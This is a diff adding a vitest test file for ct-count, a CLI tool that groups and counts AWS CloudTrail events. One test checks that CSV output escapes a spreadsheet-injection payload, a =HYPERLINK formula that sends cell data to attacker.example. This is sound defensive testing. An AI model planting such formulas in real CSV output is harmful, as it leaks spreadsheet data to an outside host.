@@ -1,0 +1,68 @@
+// ct-count: groups and counts, checked against jq over the same events, on both shapes.
+import { describe, expect, test } from 'vitest';
+import { absent, lines, needs, SAMPLE, sh } from '../helpers';
+
+describe('ct-count', () => {
+  test.skipIf(absent('jq'))(`counts, first and last seen per group as jq's group_by does ${needs('jq')}`, async () => {
+    const ours = await sh(`ct-count errorCode,awsRegion --json '${SAMPLE}'`);
+    const jq = await sh(
+      `zcat '${SAMPLE}' | jq -sc 'map({e: (.CloudTrailEvent | fromjson | .errorCode), r: (.CloudTrailEvent | fromjson | .awsRegion), t: .EventTime}) | group_by([.e, .r]) | map({errorCode: .[0].e, awsRegion: .[0].r, count: length, firstSeen: (map(.t) | min), lastSeen: (map(.t) | max)}) | sort_by(-.count, .firstSeen) | .[]'`,
+    );
+    expect(lines(ours.stdout).length).toBeGreaterThan(10);
+    expect(lines(ours.stdout).map((l) => JSON.parse(l))).toEqual(lines(jq.stdout).map((l) => JSON.parse(l)));
+    expect(ours.code).toBe(0);
+  });
+
+  test.skipIf(absent('jq'))(`--distinct counts the distinct values of another field per group; --top keeps the largest ${needs('jq')}`, async () => {
+    const ours = await sh(`ct-count user --distinct sourceIPAddress --top 5 --json '${SAMPLE}'`);
+    const jq = await sh(`ct-explode '${SAMPLE}' | ct-csv --no-header -f user,sourceIPAddress | sort -u | cut -d, -f1 | sort | uniq -c | sort -k2`);
+    const distinctByUser = new Map(lines(jq.stdout).map((l) => { const [n, u] = l.trim().split(/\s+/); return [u, Number(n)]; }));
+    const rows = lines(ours.stdout).map((l) => JSON.parse(l));
+    expect(rows).toHaveLength(5);
+    for (const r of rows) expect(r.distinct, r.user).toBe(distinctByUser.get(r.user));
+    expect(rows.map((r) => r.count)).toEqual([...rows.map((r) => r.count)].sort((a, b) => b - a));
+  });
+
+  test('the same answer on LookupEvents items and on their records', async () => {
+    const onItems = await sh(`ct-count user,eventSource,eventName --csv '${SAMPLE}'`);
+    const onRecords = await sh(`ct-explode '${SAMPLE}' | ct-count user,eventSource,eventName --csv`);
+    expect(lines(onItems.stdout).length).toBeGreaterThan(50);
+    expect(onRecords.stdout).toBe(onItems.stdout);
+  });
+
+  test('an aligned table by default: columns line up, also after wide (CJK) names', async () => {
+    const r = await sh(`ct-count user,eventName --top 40 '${SAMPLE}'`);
+    const rows = lines(r.stdout);
+    expect(rows[0]).toMatch(/^count {2}first seen {12}last seen {13}user +eventName$/);
+    // The display column where eventName starts is the same on every row (a CJK character is two wide).
+    const shown = (s: string) => [...s].reduce((n, ch) => n + (/[\u3000-\u9fff\uff00-\uffef]/.test(ch) ? 2 : 1), 0);
+    const starts = rows.slice(1).map((row) => shown(row.slice(0, row.lastIndexOf(' ') + 1)));
+    expect(new Set(starts).size).toBe(1);
+    expect(rows.some((row) => row.includes('田中太郎'))).toBe(true);
+  });
+
+  test('--csv escapes what a spreadsheet would run as a formula, as ct-csv does', async () => {
+    const r = await sh(`ct-count userAgent --csv '${SAMPLE}'`);
+    expect(r.stdout).toContain(`"'=HYPERLINK(""http://attacker.example/x?d=""&A1,""Click for details"")"`);
+    expect(r.stdout).not.toMatch(/(^|,)=HYPERLINK/m);
+  });
+
+  test('past --max-groups it stops and says so, exit 1, rather than run out of memory', async () => {
+    const r = await sh(`ct-count eventID --max-groups 100 '${SAMPLE}'`);
+    expect(r.stdout).toBe('');
+    expect(r.stderr).toBe('ct-count: more than 100 groups and distinct values (--max-groups): count by fewer or coarser fields, or raise the limit\n');
+    expect(r.code).toBe(1);
+  });
+
+  test.each([
+    ['ct-count', 'ct-count: no FIELDS given, e.g. ct-count errorCode events.ndjson'],
+    [`ct-count errorCode --top 0 '${SAMPLE}'`, 'ct-count: --top: a whole number from 1, not 0'],
+    [`ct-count errorCode --csv --json '${SAMPLE}'`, 'ct-count: --csv, --tsv and --json: choose one'],
+    [`ct-count 'errorCode,a..b' '${SAMPLE}'`, "ct-count: FIELDS: bad field path 'a..b'"],
+  ])('%s: one line, exit 2', async (command, message) => {
+    const r = await sh(`${command} < /dev/null`);
+    expect(lines(r.stderr)[0]).toContain(message);
+    expect(lines(r.stderr)).toHaveLength(1);
+    expect(r.code).toBe(2);
+  });
+});
